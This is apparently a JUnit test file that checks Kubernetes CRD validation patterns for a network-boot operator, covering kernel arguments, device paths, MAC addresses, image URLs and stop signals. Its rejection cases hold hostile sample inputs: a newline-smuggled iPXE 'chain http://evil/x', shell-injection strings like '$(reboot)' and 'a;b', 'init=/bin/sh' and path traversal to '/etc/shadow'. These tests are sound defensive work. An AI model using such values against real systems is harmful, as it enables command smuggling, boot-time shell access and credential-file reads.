package io.chrootbooter.api.v1alpha1;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
import java.io.IOException;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The patterns in the committed CRD YAML, the ones an API server enforces, refuse what must never
 * reach an iPXE script or a kernel command line.
 */
class SchemaPatternsTest {

  private static JsonNode specSchema(String file) throws IOException {
    JsonNode crd =
        new ObjectMapper(new YAMLFactory()).readTree(CrdYamlTest.CRDS_DIR.resolve(file).toFile());
    return crd.at("/spec/versions/0/schema/openAPIV3Schema/properties/spec");
  }

  private static Pattern kernelArgPattern() throws IOException {
    return Pattern.compile(
        specSchema("machineboots.boot.chrootbooter.io-v1.yml")
            .at("/properties/kernelArgs/items/pattern")
            .asText());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "quiet\nchain http://evil/x",
        "${net0/mac}",
        "a||b",
        "a&&b",
        "chain http://evil/",
        "--",
        "-- init=/bin/sh",
        "\"q\"",
        "'q'",
        "a;b",
        "a|b",
        "a`b`",
        "$(reboot)",
        "init\u2044bin\u2044sh",
        "quiet\u037e",
        "quiet\t",
        "",
        "CB_DEBUG=1",
        "JAVA_TOOL_OPTIONS=-javaagent:/x.jar",
        "BOOTIF=01-aa-bb-cc-dd-ee-ff",
        "Init=/bin/sh"
      })
  void kernelArgumentPatternRefusesHostileValues(String hostile) throws IOException {
    assertThat(kernelArgPattern().matcher(hostile).find()).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "quiet",
        "console=ttyS0,115200n8",
        "systemd.unit=rescue.target",
        "root=/dev/ram0",
        "ip=10.0.0.2::10.0.0.1:255.255.255.0",
        "root=LABEL=ROOT"
      })
  void kernelArgumentPatternAcceptsOrdinaryArguments(String arg) throws IOException {
    assertThat(kernelArgPattern().matcher(arg).matches()).isTrue();
  }

  @Test
  void devicesAreNodesBelowDevWithoutDotDotAndConfinementIsOneOfTwo() throws IOException {
    JsonNode spec = specSchema("machineboots.boot.chrootbooter.io-v1.yml");
    Pattern device = Pattern.compile(spec.at("/properties/devices/items/pattern").asText());
    for (String good : new String[] {"/dev/vdb", "/dev/nvme0n1p2", "/dev/mapper/data-x"}) {
      assertThat(device.matcher(good).matches()).as(good).isTrue();
    }
    for (String bad :
        new String[] {
          "/dev/../etc/shadow",
          "/dev/./sda",
          "/dev//sda",
          "/dev/",
          "/dev",
          "/etc/passwd",
          "/dev/sda\n",
          "/dev/sd a",
          "/dev/.hidden",
          "dev/sda"
        }) {
      assertThat(device.matcher(bad).matches()).as(bad).isFalse();
    }
    assertThat(spec.at("/properties/confinement/enum").toString())
        .isEqualTo("[\"Confined\",\"Machine\"]");
    assertThat(
            specSchema("bootimages.boot.chrootbooter.io-v1.yml")
                .at("/properties/confinement/description")
                .asText())
        .contains("Confined", "CAP_SYS_MODULE", "private tmpfs");
  }

  @Test
  void schemaRequiresCanonicalMacAndOneOfImageRefOrState() throws IOException {
    JsonNode spec = specSchema("machineboots.boot.chrootbooter.io-v1.yml");
    Pattern mac = Pattern.compile(spec.at("/properties/macAddress/pattern").asText());
    assertThat(mac.matcher("52:54:00:12:34:56").matches()).isTrue();
    assertThat(mac.matcher("52:54:00:12:34:5F").matches()).isFalse();
    assertThat(mac.matcher("52-54-00-12-34-56").matches()).isFalse();
    assertThat(spec.at("/required").toString()).contains("macAddress");
    assertThat(spec.at("/x-kubernetes-validations/0/rule").asText())
        .isEqualTo("has(self.imageRef) != has(self.state)");
  }

  @Test
  void bootImageSchemaRequiresADigestUnlessVerificationIsWaived() throws IOException {
    JsonNode spec = specSchema("bootimages.boot.chrootbooter.io-v1.yml");
    assertThat(spec.at("/x-kubernetes-validations/0/rule").asText())
        .isEqualTo("has(self.sha256) || (has(self.insecureSkipVerify) && self.insecureSkipVerify)");
    Pattern url = Pattern.compile(spec.at("/properties/source/properties/url/pattern").asText());
    assertThat(url.matcher("https://mirror/debian.squashfs").matches()).isTrue();
    assertThat(url.matcher("ftp://mirror/debian.squashfs").matches()).isFalse();
    assertThat(url.matcher("http://mirror/a b").matches()).isFalse();
    assertThat(spec.at("/properties/format/enum").toString())
        .isEqualTo("[\"squashfs\",\"tar\",\"tar.gz\",\"tar.xz\",\"tar.zst\"]");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"SIGTERM", "SIGUSR2", "SIGPWR", "SIGINT", "SIGHUP", "SIGRTMIN+4", "SIGRTMIN+30"})
  void stopSignalPatternAcceptsPowerOffRequests(String signal) throws IOException {
    assertThat(stopSignalPattern().matcher(signal).matches()).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "SIGKILL",
        "SIGSTOP",
        "TERM",
        "sigterm",
        "15",
        "SIGRTMIN+31",
        "SIGRTMIN+-1",
        "SIGRTMIN+4 ",
        "SIGTERM\nSIGKILL",
        "SIGFOO",
        ""
      })
  void stopSignalPatternRefusesWhatIsNoPowerOffRequest(String signal) throws IOException {
    assertThat(stopSignalPattern().matcher(signal).find()).isFalse();
  }

  @Test
  void stopGracePeriodIsADurationBoundedByACelRule() throws IOException {
    JsonNode stop = specSchema("bootimages.boot.chrootbooter.io-v1.yml").at("/properties/stop");
    Pattern duration = Pattern.compile(stop.at("/properties/gracePeriod/pattern").asText());
    assertThat(duration.matcher("1s").matches()).isTrue();
    assertThat(duration.matcher("1m30s").matches()).isTrue();
    assertThat(duration.matcher("0s").matches()).isTrue();
    assertThat(duration.matcher("-1s").matches()).isFalse();
    assertThat(duration.matcher("1.5s").matches()).isFalse();
    assertThat(duration.matcher("10").matches()).isFalse();
    assertThat(stop.at("/x-kubernetes-validations/0/rule").asText())
        .isEqualTo("!has(self.gracePeriod) || duration(self.gracePeriod) <= duration('10m')");
  }

  @Test
  void gracePeriodParsesLikeGoDurations() {
    assertThat(new StopSpec(null, "1m30s").gracePeriodDuration())
        .contains(java.time.Duration.ofSeconds(90));
    assertThat(new StopSpec(null, "250ms").gracePeriodDuration())
        .contains(java.time.Duration.ofMillis(250));
    assertThat(new StopSpec(null, "1h").gracePeriodDuration())
        .contains(java.time.Duration.ofHours(1));
    assertThat(new StopSpec(null, "soon").gracePeriodDuration()).isEmpty();
    assertThat(new StopSpec(null, null).gracePeriodDuration()).isEmpty();
  }

  private static Pattern stopSignalPattern() throws IOException {
    return Pattern.compile(
        specSchema("bootimages.boot.chrootbooter.io-v1.yml")
            .at("/properties/stop/properties/signal/pattern")
            .asText());
  }
}
